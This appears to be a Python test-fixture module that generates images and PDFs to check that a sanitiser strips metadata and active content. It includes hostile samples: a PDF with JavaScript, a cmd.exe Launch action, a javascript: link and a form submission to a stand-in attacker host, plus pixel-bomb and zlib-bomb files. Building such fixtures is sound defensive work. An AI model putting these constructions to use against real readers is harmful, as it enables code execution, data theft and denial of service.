"""Owns the files that tests attach: pictures and PDFs with what is to be taken out of them, all made here."""

import io
import zipfile
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image, ImageCms, PngImagePlugin

GPS, ORIENTATION = 0x8825, 0x0112
SECRET = "Elsa Provlund"


def _saved(picture: Image.Image, form: str, **how: Any) -> bytes:
    written = io.BytesIO()
    picture.save(written, form, **how)
    return written.getvalue()


def two_coloured(width: int = 40, height: int = 20) -> Image.Image:
    """Red to the left, blue to the right."""
    picture = Image.new("RGB", (width, height), "red")
    picture.paste("blue", (width // 2, 0, width, height))
    return picture


def photo(orientation: int = 1, colour: str = "") -> bytes:
    """A JPEG as a phone makes it: position, time, maker, comment, thumbnail-sized data, colour profile."""
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010E] = SECRET
    exif.get_ifd(GPS).update({1: "N", 2: (56.0, 52.0, 45.0), 3: "E", 4: (14.0, 48.0, 30.0)})
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    picture = Image.new("RGB", (40, 20), colour) if colour else two_coloured()
    how: dict[str, Any] = {"exif": exif, "icc_profile": profile, "comment": SECRET.encode(), "dpi": (300, 300)}
    return _saved(picture, "JPEG", quality=95, subsampling=0, **how)


def drawing(**how: Any) -> bytes:
    """A PNG with text chunks, EXIF and a resolution."""
    told = PngImagePlugin.PngInfo()
    told.add_text("Author", SECRET)
    told.add_itxt("Comment", SECRET, zip=True)
    exif = Image.Exif()
    exif[0x010E] = SECRET
    return _saved(two_coloured(), "PNG", pnginfo=told, exif=exif, dpi=(150, 150), **how)


def moving() -> bytes:
    """A PNG of two frames."""
    second = Image.new("RGB", (40, 20), "green")
    return _saved(two_coloured(), "PNG", save_all=True, append_images=[second])


def burst() -> bytes:
    """A JPEG that holds two pictures, as some phones make them."""
    return _saved(two_coloured(), "MPO", save_all=True, append_images=[Image.new("RGB", (40, 20), "green")])


def bomb() -> bytes:
    """A small PNG that is 60 million pixels."""
    return _saved(Image.new("1", (10_000, 6_000)), "PNG")


def pdf(*, pages: int = 1, text: str = "", **root: Any) -> bytes:
    """A PDF with document information and XMP of its maker; `root` is put into its catalogue."""
    document = pikepdf.new()
    for _ in range(pages):
        page = document.add_blank_page()
        page.Contents = document.make_stream(f"% {text}".encode())
    document.docinfo["/Author"] = SECRET
    with document.open_metadata() as told:
        told["dc:creator"] = [SECRET]
    for key, value in root.items():
        document.Root[f"/{key}"] = value
    return saved(document)


def saved(document: pikepdf.Pdf, **how: Any) -> bytes:
    """The bytes of a PDF."""
    written = io.BytesIO()
    document.save(written, **how)
    return written.getvalue()


def acting_pdf() -> bytes:
    """A PDF that runs, starts and sends things in every way that readers know."""
    document = pikepdf.open(io.BytesIO(pdf(text="sidan")))
    run = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    launch = Dictionary(S=Name.Launch, F="cmd.exe", Next=run)
    good = Dictionary(S=Name.URI, URI="https://example.se/", Next=document.make_indirect(run))
    bad = Dictionary(S=Name.URI, URI="javascript:alert(1)")
    document.Root.OpenAction = run
    document.Root.AA = Dictionary(WC=run)
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["x", document.make_indirect(run)])))
    form = document.make_indirect(Dictionary(XFA="<xdp/>", Fields=Array()))
    document.Root.AcroForm = form
    actions = [launch, good, bad, Dictionary(S=Name.SubmitForm, F="https://evil.example/")]
    notes = [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=each) for each in actions]
    document.pages[0].Annots = Array([document.make_indirect(note) for note in notes])
    document.pages[0].AA = Dictionary(O=run)
    return saved(document)


def pdf_with_file() -> bytes:
    """A PDF that carries another file."""
    document = pikepdf.open(io.BytesIO(pdf()))
    document.attachments["brev.txt"] = SECRET.encode()
    return saved(document)


def locked_pdf(*, user: str) -> bytes:
    """A PDF behind a password, or with an empty one only restricted."""
    document = pikepdf.open(io.BytesIO(pdf()))
    return saved(document, encryption=pikepdf.Encryption(owner="ägare", user=user))


def archive() -> bytes:
    """A ZIP."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        packed.writestr("ont.exe", "MZ")
    return written.getvalue()


def inflating_pdf(size: int) -> bytes:
    """A PDF whose packed list of objects unpacks to `size` bytes from about a thousandth of that."""
    head = b"1 0 <</Type/Catalog/Pages 2 0 R>>"
    packed = zlib.compress(head.ljust(size))
    parts = [
        (2, b"<</Type/Pages/Count 1/Kids[3 0 R]>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
        (4, b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)),
    ]
    written, places = b"%PDF-1.5\n", {1: (2, 4, 0)}
    for number, body in parts:
        places[number] = (1, len(written), 0)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    places[5] = (1, len(written), 0)
    rows = b"".join(
        bytes([kind]) + where.to_bytes(4, "big") + bytes([last])
        for kind, where, last in (places[n] for n in range(1, 6))
    )
    return written + (
        b"5 0 obj\n<</Type/XRef/Size 6/Index[1 5]/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream\nendobj\n"
        b"startxref\n%d\n%%%%EOF\n" % (len(rows), rows, places[5][1])
    )
